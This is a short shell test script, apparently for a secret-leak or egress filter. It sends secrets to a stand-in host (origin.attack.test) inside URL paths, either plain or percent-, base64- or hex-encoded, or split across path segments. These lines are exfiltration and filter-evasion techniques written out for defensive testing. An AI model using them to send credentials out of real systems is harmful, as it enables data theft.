# A secret to an allowed host in the path, whole and percent-encoded.
need curl python3
all() { text "$1" | python3 -c 'import sys; print("".join("/" if b == 47 else "%%%02x" % b for b in sys.stdin.buffer.read()))'; }
b64() { text "$1" | base64 -w0 | tr '+/' '-_'; }
split() { text "$1" | sed 's|............|&/|g'; }
where="https://origin.attack.test:$PORT"
for secret in harmless $secrets; do
	with=send && [ "$secret" = harmless ] && with=harmless
	$with "segment $secret" "$where/upload/$(text $secret)"
	$with "inside $secret" "$where/x-$(text $secret)-y.png"
	$with "percent $secret" "$where/upload/$(all $secret)"
	$with "base64 $secret" "$where/upload/$(b64 $secret)"
	$with "hex $secret" "$where/upload/$(text $secret | od -An -v -tx1 | tr -d ' \n')"
	case $secret in shape-*) continue ;; esac
	$with "segments $secret" "$where/$(split $secret)"
done
